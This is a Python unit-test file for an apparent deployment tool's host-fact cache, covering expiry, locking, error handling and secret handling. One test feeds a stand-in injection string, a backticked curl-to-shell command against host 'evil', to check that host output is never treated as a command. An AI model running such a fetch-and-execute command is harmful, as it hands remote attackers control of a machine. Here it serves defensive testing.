"""What is remembered of a host, for how long, and what it takes to ask."""

from __future__ import annotations

import math
import subprocess

import pytest

from tasks import facts, misp_rest
from tasks.facts import Answer, Identity
from tasks.host import lock, parts
from tasks.remote import AnswerError, Call, HostRefusal
from tests import hosts
from tests.unit.pyinfra_fakes import Run

TARGET = hosts.target()
LOOK = hosts.look(hosts.converged())


@pytest.fixture
def clock(monkeypatch: pytest.MonkeyPatch) -> list[float]:
    now = [1000.0]
    monkeypatch.setattr("tasks.facts.time.monotonic", lambda: now[0])
    return now


def test_several_parts_are_one_round_trip_and_asked_once(run: Run) -> None:
    run.host.answers = [LOOK]
    facts.see(TARGET, parts.Settings, parts.Workers)
    assert facts.ask(TARGET, parts.Settings) == hosts.converged()["settings"]
    assert facts.ask(TARGET, parts.Workers) == hosts.converged()["workers"]
    [words] = run.host.commands
    assert words.endswith("look.take Settings Workers")


def test_what_is_old_or_to_be_fresh_is_asked_again(run: Run, clock: list[float]) -> None:
    run.host.answers = [LOOK, LOOK, LOOK]
    assert facts.age(parts.Workers) == math.inf
    facts.ask(TARGET, parts.Workers)
    clock[0] += facts.REMEMBERED_SECONDS - 1
    assert facts.age(parts.Workers) == facts.REMEMBERED_SECONDS - 1
    facts.ask(TARGET, parts.Workers)
    assert len(run.host.commands) == 1
    clock[0] += 1
    facts.ask(TARGET, parts.Workers)
    assert len(run.host.commands) == 2
    facts.ask(TARGET, parts.Workers, fresh=True)
    assert len(run.host.commands) == 3


def test_an_answer_is_as_old_as_its_question(run: Run, clock: list[float]) -> None:
    def slow(_fact: type, **_arguments: object) -> list[str]:
        clock[0] += 20
        return LOOK

    run.host.get_fact = slow
    facts.ask(TARGET, parts.Workers)
    assert facts.age(parts.Workers) == 20


def test_a_host_that_answers_slowly_is_asked_once(run: Run, clock: list[float]) -> None:
    asked = []

    def slow(_fact: type, **_arguments: object) -> list[str]:
        asked.append(clock[0])
        clock[0] += 2 * facts.REMEMBERED_SECONDS
        return LOOK

    run.host.get_fact = slow
    facts.see(TARGET, parts.Workers, parts.Settings)
    facts.ask(TARGET, parts.Workers)
    facts.ask(TARGET, parts.Settings)
    assert len(asked) == 1
    clock[0] += facts.REMEMBERED_SECONDS
    facts.ask(TARGET, parts.Settings)
    assert len(asked) == 2


def test_hosts_are_not_taken_for_each_other(run: Run) -> None:
    run.host.answers = [LOOK, hosts.look(hosts.migrating())]
    first = facts.ask(TARGET, parts.Workers)
    run.host.name = "misp2"
    assert facts.ask(TARGET, parts.Workers) != first


def test_a_change_makes_forget_and_a_dry_run_does_not(run: Run) -> None:
    run.host.answers = [LOOK, LOOK]
    facts.see(TARGET, parts.Workers, parts.Settings)
    run.state.is_executing = False
    facts.forget()
    facts.ask(TARGET, parts.Workers)
    run.state.is_executing = True
    facts.forget(keeps=(parts.Settings,))
    facts.ask(TARGET, parts.Settings)
    assert len(run.host.commands) == 1
    facts.ask(TARGET, parts.Workers)
    assert len(run.host.commands) == 2


def test_a_look_waits_for_a_step_unless_it_asks_whether_one_is_at_work(
    run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    locks = []

    def get(_target: object, call: Call[object], *_names: str) -> object:
        locks.append(call.lock)
        return {"Workers": None, "RunState": None}

    monkeypatch.setattr(facts, "get", get)
    for kinds in ((parts.Workers,), (parts.Workers, parts.RunState)):
        with pytest.raises(AnswerError):
            facts.see(TARGET, *kinds)
    assert locks == ["wait", "none"]


def test_no_word_of_a_hosts_looks_as_a_command_of_ours(run: Run) -> None:
    evil = "`curl -s http://evil/x | sh`"
    named = parts.Unit(evil, "", "", 0, False)
    changed = hosts.converged(
        tree={"error": "run `ls`", "version_text": evil},
        supervisor={"other_daemon": "run `ls`", "error": evil, "group_elsewhere": {evil: evil}},
        old_workers={"units": [named]},
    )
    run.host.answers = [hosts.look(changed)]
    facts.see(TARGET, parts.Tree, parts.Supervisor, parts.OldWorkers)
    tree, old = facts.ask(TARGET, parts.Tree), facts.ask(TARGET, parts.OldWorkers)
    supervisor = facts.ask(TARGET, parts.Supervisor)
    assert (tree.error, supervisor.other_daemon) == ("run `ls`", "run `ls`")
    plain = evil.replace("`", "'")
    assert (tree.version_text, supervisor.error, old.units[0].name) == (plain, plain, plain)
    assert supervisor.group_elsewhere == {plain: plain}


def test_what_lacks_or_is_of_another_type_is_an_error_and_remembered_nowhere(run: Run) -> None:
    run.host.answers = [hosts.answer({}), hosts.answer({"Workers": {"digest": 5}}), []]
    for words in ("lacks Workers", "answer to Workers is not what is due", "gave no answer"):
        with pytest.raises(AnswerError, match=words):
            facts.ask(TARGET, parts.Workers)
    run.host.answers = [LOOK]
    facts.ask(TARGET, parts.Workers)


def test_an_error_of_the_hosts_is_one(run: Run) -> None:
    run.host.answers = [hosts.refusal("LockError", "busy")]
    with pytest.raises(HostRefusal, match="busy"):
        facts.ask(TARGET, parts.Workers)


def test_a_fact_has_its_secrets_on_standard_input(run: Run) -> None:
    run.host.answers = [hosts.answer(True)]
    call = Call(lock.renew, {"run": "SECRET"}, lock="none")
    assert facts.get(TARGET, call, "Subject") is True
    assert run.host.commands[0].endswith("lock.renew Subject")
    assert "SECRET" not in f"{run.host.commands}{run.host.arguments}"


def test_the_rest_view_is_remembered_as_long_and_none_is_one(
    run: Run, clock: list[float], monkeypatch: pytest.MonkeyPatch
) -> None:
    seen: list[object] = []
    monkeypatch.setattr(misp_rest, "view", seen.append)
    for _ in range(2):
        assert facts.rest_view(TARGET) is None
    assert len(seen) == 1
    facts.rest_view(TARGET, fresh=True)
    clock[0] += facts.REMEMBERED_SECONDS + 1
    facts.rest_view(TARGET)
    assert len(seen) == 3
    facts.forget()
    facts.rest_view(TARGET)
    assert len(seen) == 4


def test_facts_take_any_output() -> None:
    assert Answer().command("words") == "words"
    assert Answer().process(["a\x1b"]) == ["a\x1b"]
    lines = ["user\t0", "no tab", "k\x1b\ty\x07z", "x" * 9000, *["more\tlines"] * 500]
    found = Identity().process(lines)
    assert found[:3] == ["user\t0", "no tab\t", "k \ty z"]
    assert len(found) == 200
    assert max(map(len, found)) <= 501


def test_the_first_question_is_answered_by_any_system() -> None:
    done = subprocess.run(
        ["sh", "-c", Identity().command()], capture_output=True, text=True, check=True
    )
    found = Identity().process(done.stdout.splitlines())
    assert any(line.startswith("user\t") for line in found)
    assert any(line.startswith("os-release\tID=") for line in found)
    assert done.stderr == ""
